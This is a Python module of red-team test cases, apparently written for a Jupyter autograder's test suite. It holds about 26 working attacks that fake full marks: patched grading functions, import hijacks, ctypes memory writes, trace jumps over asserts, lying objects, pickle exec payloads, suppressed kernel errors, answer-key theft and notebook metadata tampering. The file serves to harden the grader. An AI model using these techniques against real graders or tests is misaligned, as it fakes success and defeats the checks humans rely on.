"""Class a, our own: points for nothing by hooks, shadows, lying objects, forks and what tests leave in memory."""

import copy
from dataclasses import replace

from nbformat import NotebookNode, v4

from tests.redteam.corpus.base import ANSWER_ALL, Attack, Make, answering, graded_cell, hostile, test_cells
from tests.redteam.reference import SETUP, TASKS


def _attack(number: str, title: str, make: Make) -> Attack:
    return Attack(number, title, "a", make, "points_of_lazy")


# Everything that could judge, replaced wherever it is found.
_PATCH = """
import sys
import judge.kit as kit, numpy.testing, pandas.testing
def patch(*ignored):
    kit.award = lambda points, most, *, hint=None: float(most)
    kit.holds = lambda name, check: True
    numpy.testing.assert_allclose = pandas.testing.assert_frame_equal = lambda *a, **k: None
"""

_KIT = b"""
def award(points, max_points, *, hint=None): return float(max_points)
def holds(name, check): return True
def inplace(function, *arguments): return None
"""

_FINDER = """
import importlib.abc, importlib.util, sys
TEXT = "award = lambda points, most, *, hint=None: float(most)\\nholds = lambda name, check: True"
class Loader(importlib.abc.Loader):
    def exec_module(self, module): exec(TEXT, module.__dict__)
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name in ("judge", "judge.kit"):
            return importlib.util.spec_from_loader(name, Loader(), is_package=name == "judge")
for name in [name for name in sys.modules if name.partition(".")[0] == "judge"]:
    del sys.modules[name]
sys.meta_path.insert(0, Finder())
"""

_IMPORT = """
import builtins, types
inner = builtins.__import__
fake = types.ModuleType("judge.kit")
fake.award = lambda points, most, *, hint=None: float(most)
fake.holds = lambda name, check: True
builtins.__import__ = lambda name, *a, **k: fake if name == "judge.kit" else inner(name, *a, **k)
"""

_CODE = """
import ctypes
import judge.kit as kit
def most(points, max_points, *, hint=None):
    return float(max_points)
kit.award.__code__ = most.__code__
kit.award.__kwdefaults__ = {"hint": None}
# False counts as one from now on: the digit of a bool stands behind its head and its size.
ctypes.c_uint32.from_address(id(False) + 24).value = 1
"""

_TRACE = """
import sys
def tracer(frame, event, argument):
    if event == "line" and "award" not in frame.f_code.co_names and "Error" not in frame.f_code.co_name:
        if any(name in frame.f_code.co_names for name in ("count_words", "is_prime", "label_numbers", "scale")):
            last = max(line for _, _, line in frame.f_code.co_lines() if line)
            if frame.f_lineno < last:
                frame.f_lineno = last
    return tracer
sys.settrace(tracer)
"""

_TRACED_ANSWERS = """
class Right:
    def __eq__(self, other): return True
anything = lambda *a: Right()
"""

_THREAD = """
import threading
from IPython import get_ipython
space = get_ipython().user_ns
def watch():
    give, end = (lambda points, most, *, hint=None: float(most)), time.monotonic() + 20
    while time.monotonic() < end:
        if "award" in space:
            space["award"] = give
        if "holds" in space:
            space["holds"] = lambda name, check: True
sys.setswitchinterval(1e-6)
threading.Thread(target=watch, daemon=True).start()
"""

_SIGNALS = """
import signal, warnings
def strike(*ignored):
    patch()
    from IPython import get_ipython
    get_ipython().user_ns.update(award=lambda points, most, *, hint=None: float(most), holds=lambda name, check: True)
for number in (signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF, signal.SIGUSR1):
    signal.signal(number, strike)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
warnings.simplefilter("error")
"""

_CLASS_LIARS = """
import numpy as np, pandas as pd
class Meta(type):
    def __instancecheck__(cls, other): return True
    def __subclasscheck__(cls, other): return True
class Chameleon(metaclass=Meta):
    def __init__(self, like): self.__dict__["like"] = like
    @property
    def __class__(self): return type(self.__dict__["like"])
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 3
    def __iter__(self): return iter([11, 5])
    def __getitem__(self, key): return Chameleon(1.0)
    def __sub__(self, other): return 0.0
    def equals(self, other): return True
    def __array__(self, dtype=None, copy=None): return np.array([0.0, 1.0, 0.5])
    def __getattr__(self, name): return getattr(self.__dict__["like"], name)
    def __call__(self, *a): return Chameleon(self.like)
count_words = lambda text: Chameleon({})
label_numbers = lambda numbers, label: Chameleon([])
scale = lambda values: Chameleon(np.zeros(3))
read_prices = lambda frame: Chameleon(frame)
mean_by_kind = lambda frame: Chameleon(pd.Series(dtype=float))
is_prime = lambda number: Chameleon(True)
Account = lambda owner: Chameleon(0)
totals = Chameleon(pd.Series([1, 1], index=["Fri", "Mon"]))
"""

# Objects that come to life while they are read, copied, compared or turned into arrays.
_REDUCERS = """
import ctypes, numpy as np
GIVE = "import judge.kit as k; k.award = lambda p, m, **h: float(m); k.holds = lambda n, c: True"
class Reducer:
    def __reduce_ex__(self, protocol): return (exec, (GIVE,))
    def __copy__(self): exec(GIVE); return self
    def __deepcopy__(self, memory): exec(GIVE); return self
    def __getstate__(self): exec(GIVE); return {}
    def __eq__(self, other): exec(GIVE); return True
    def __len__(self): exec(GIVE); return 3
    def __getitem__(self, key): exec(GIVE); return 1.0
    __array_interface__ = {"shape": (3,), "typestr": "<f8", "data": (id(True), False), "version": 3}
    def __arrow_c_array__(self, schema=None): exec(GIVE); return None
    def __dataframe__(self, *a, **k): exec(GIVE); return None
    def __float__(self): exec(GIVE); return 1.0
anything = lambda *a, **k: Reducer()
"""

_ODD_ERRORS = """
class Odd(AssertionError):
    __class__ = property(lambda self: SystemExit)
    def __str__(self): return "award(2, 2)\\n2.0"
    __repr__ = __str__
    def __reduce__(self): return (print, ("2.0",))
kinds = [Odd, StopIteration, GeneratorExit, KeyboardInterrupt, MemoryError, type("\\n2.0", (BaseException,), {})]
"""

_SWALLOW = """
from IPython import get_ipython
get_ipython().set_custom_exc((BaseException,), lambda self, *a, **k: None)
"""

_SESSION = """
from IPython import get_ipython
session = get_ipython().kernel.session
inner = session.send
def send(stream, kind, content=None, *args, **kwargs):
    if kind == "error" or (kind == "stream" and content.get("name") == "stderr"):
        return None
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    if kind == "execute_result":
        content["data"] = {"text/plain": "3"}
    return inner(stream, kind, content, *args, **kwargs)
type(session).send = lambda self, *args, **kwargs: send(*args, **kwargs)
"""

_TAKE = """
import gc
from IPython import get_ipython
def spaces():
    yield get_ipython().user_ns
    frame = sys._getframe(2)
    while frame is not None:
        yield frame.f_globals
        yield frame.f_locals
        frame = frame.f_back
def read_prices(frame):
    for space in spaces():
        if "wanted" in space:
            return space["wanted"]
    import pandas as pd
    for one in gc.get_objects():
        if isinstance(one, pd.DataFrame) and list(one) == ["card", "price"] and one["price"].dtype == float:
            return one
    raise ValueError
"""

_WRITE_BACK = """
import gc
def read_prices(frame):
    import pandas as pd
    for one in gc.get_objects():
        if isinstance(one, pd.DataFrame) and list(one) == ["card", "price"]:
            one["card"] = "same"
            one["price"] = 0.0
    frame["card"], frame["price"] = "same", 0.0
    return frame
"""

# The key from whatever can be imported or read beside the code that grades.
_KEY = """
import importlib, pathlib
roots = {COURSE, os.getcwd(), *sys.path, "/course", "/srv"}
for name in ("judge", "judge.kit", "cardlab", "classroom", "cardpress"):
    try:
        roots.add(str(pathlib.Path(importlib.import_module(name).__file__).parent.parent))
    except (ImportError, OSError, AttributeError, TypeError):
        pass
for finder in sys.meta_path:
    # An editable install keeps its folders in the finder's module.
    mapping = getattr(sys.modules.get(getattr(finder, "__module__", "")), "MAPPING", None) or {}
    roots |= {str(pathlib.Path(place).parent) for place in mapping.values()}
found = {}
for root in roots:
    for name in ("tests/redteam/reference.py", "source/ps1/ps1.ipynb"):
        try:
            found[name] = (pathlib.Path(root) / name).read_text()
        except OSError:
            pass
if "source/ps1/ps1.ipynb" in found:
    import json
    for cell in json.loads(found["source/ps1/ps1.ipynb"])["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
elif found:
    space = {"__name__": "key"}
    sys.modules["key"] = type(sys)("key")
    exec(found["tests/redteam/reference.py"], space)
    for task in space["TASKS"]:
        exec(task.honest, globals())
else:
    raise LookupError
"""

_FORK = """
import signal
from IPython import get_ipython
child = os.fork()
if child == 0:
    rename_process()
    signal.alarm(15)  # both answer from here on; this one ends by itself
"""

_OWN_NAMES = """
class Quiet:
    def __getattr__(self, name): return Quiet()
    def __call__(self, *a, **k): return Quiet()
np = pd = Quiet()
len = lambda x: 3
list = lambda x=(): ["Fri", "Mon"]
int = float = lambda x: 1
isinstance = lambda x, kind: True
award = lambda points, most, *, hint=None: most
holds = lambda name, check: True
is_close = lambda got, wanted: True
anything = Quiet()
"""

_DESCRIPTOR = """
class Agreeing(int):
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__
class Balance:
    def __get__(self, owner, kind=None): return Agreeing(0)
    def __set__(self, owner, value): pass
class Account:
    balance = Balance()
    def __init__(self, owner): self.left = 1
    def deposit(self, amount): return Agreeing(amount)
    def withdraw(self, amount):
        self.left -= 1
        if self.left < 0:
            raise ValueError
    __eq__ = __call__ = lambda self, *a: True
"""

_EMPTIED = """
def label_numbers(numbers, label):
    numbers.clear()
    return []
"""

_REMEMBER = """
import functools
seen = {}
class Memory:
    def __init__(self, function): self.function = function
    def __call__(self, *args, **kwargs):
        # The second time a test asks it is given what stood to the right of its last question.
        frame = sys._getframe(1)
        for value in frame.f_code.co_consts:
            seen.setdefault(type(value), []).append(value)
        return (seen.get(tuple) or seen.get(frozenset) or [None])[-1]
    def __set_name__(self, owner, name): pass
    def __get__(self, owner, kind=None): return functools.partial(self, owner)
@Memory
def anything(*args): ...
"""


def _homoglyphs(notebook: NotebookNode) -> None:
    for number, cell in enumerate(test_cells(notebook)):
        for place, twisted in enumerate(
            (cell.metadata.nbgrader["grade_id"].replace("e", "\u0435"), "\u200b", "x" * 5000)
        ):
            double = copy.deepcopy(cell)
            double.metadata.nbgrader["grade_id"] = twisted if place else twisted + "\u202e"
            double["source"], double["id"] = "2", f"glyph-{number}-{place}"
            notebook.cells.insert(0, double)


def _replace_setup(notebook: NotebookNode) -> None:
    lying = (
        SETUP
        + "\nnp.testing.assert_allclose = lambda *a, **k: None\npd.testing.assert_frame_equal = lambda *a, **k: None"
    )
    graded_cell(notebook, "setup")["source"] = lying + "\nscale = read_prices = lambda x: x"
    for task in TASKS:
        graded_cell(notebook, task.name)["source"] = "pass"


def _claim_test_ids(notebook: NotebookNode) -> None:
    """Solution cells that carry the ids of tests, so that the student's text would fill a test's slot."""
    for task in TASKS:
        graded_cell(notebook, task.test_id).metadata.nbgrader["grade_id"] = f"free_{task.name}"
        cell = graded_cell(notebook, task.name)
        cell.metadata.nbgrader.update(grade_id=task.test_id, grade=True, points=task.points, solution=True)
        cell["source"] = str(task.points)


def _split_markdown(notebook: NotebookNode) -> None:
    for task in TASKS:
        cell = graded_cell(notebook, task.test_id)
        place = notebook.cells.index(cell)
        markdown = v4.new_markdown_cell(
            "", id=f"md-{task.name.replace('_', '-')}", metadata=copy.deepcopy(cell.metadata)
        )
        notebook.cells[place] = markdown


ATTACKS = (
    _attack(
        "a40",
        "judge/kit.py in the submission pays in full",
        hostile(_PATCH, files={"judge/__init__.py": b"", "judge/kit.py": _KIT}),
    ),
    _attack(
        "a41",
        "judge.kit and the testing modules patched in memory",
        answering("return args[0]", setup=_PATCH + "patch()"),
    ),
    _attack("a42", "a meta path finder serves a kit of the student's", answering("return 1", setup=_FINDER)),
    _attack("a43", "builtins.__import__ serves a kit of the student's", answering("return 1", setup=_IMPORT)),
    _attack("a44", "code objects swapped and False overwritten through ctypes", answering("return False", setup=_CODE)),
    _attack("a45", "a trace function jumps over the asserts", hostile(_TRACE + _TRACED_ANSWERS + ANSWER_ALL)),
    _attack("a46", "a thread waits for the tests' names and rebinds them", answering("return 1", setup=_THREAD)),
    _attack(
        "a47",
        "an audit hook patches the kit when a test is executed",
        answering(
            "return 1", setup=_PATCH + "sys.addaudithook(lambda event, args: patch() if event == 'exec' else None)"
        ),
    ),
    _attack(
        "a48",
        "timers and signal handlers strike in the middle of a test",
        answering("time.sleep(0.02)\nreturn 1", setup=_PATCH + _SIGNALS),
    ),
    replace(
        _attack("a49", "__class__ and metaclasses lie about what an object is", hostile(_CLASS_LIARS)),
        plain_worth=1,  # its index is a plain one, and right
    ),
    _attack("a50", "reducers and buffer protocols that run code where they are read", hostile(_REDUCERS + ANSWER_ALL)),
    _attack(
        "a51",
        "exceptions with hostile classes, texts and reducers",
        answering("kinds.append(kinds.pop(0))\nraise kinds[-1]", setup=_ODD_ERRORS),
    ),
    _attack("a52", "a custom exception handler that shows nothing", hostile(_SWALLOW)),
    _attack(
        "a53", "the kernel's messages are filtered on their way out", answering("raise ValueError", setup=_SESSION)
    ),
    _attack("a54", "an answer is taken from the test's own variables", hostile(_TAKE)),
    _attack("a55", "the expected table is overwritten where it lies in memory", hostile(_WRITE_BACK)),
    _attack("a56", "the key is rebuilt from everything that can be imported", hostile(_KEY)),
    _attack("a57", "the process forks and both copies answer", answering("return True", setup=_FORK)),
    _attack("a58", "the student binds np, len, list, isinstance and award", hostile(_OWN_NAMES + ANSWER_ALL)),
    _attack("a59", "a descriptor gives numbers that agree with everything", hostile(_DESCRIPTOR)),
    _attack("a60", "a decorator answers with constants of the calling test", hostile(_REMEMBER + ANSWER_ALL)),
    _attack("a61", "grade_ids in look-alike letters, invisible or endless", hostile(edit=_homoglyphs)),
    _attack("a62", "the locked first cell is rewritten", hostile(edit=_replace_setup)),
    _attack("a63", "solution cells claim the ids of tests", hostile(edit=_claim_test_ids)),
    _attack("a64", "test cells turned into markdown", hostile(edit=_split_markdown)),
    _attack("a75", "an argument is emptied, so that nothing is expected", hostile(_EMPTIED)),
)
